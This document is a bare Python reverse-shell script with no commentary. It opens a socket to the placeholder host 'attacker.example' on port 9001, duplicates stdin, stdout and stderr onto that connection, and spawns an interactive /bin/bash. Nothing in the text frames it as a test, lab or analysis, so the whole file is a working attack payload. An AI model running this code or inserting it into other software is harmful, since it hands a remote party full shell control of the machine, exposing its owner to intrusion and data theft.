import os, pty, socket

sock = socket.create_connection(("attacker.example", 9001))
for fd in (0, 1, 2):
    os.dup2(sock.fileno(), fd)
pty.spawn("/bin/bash")
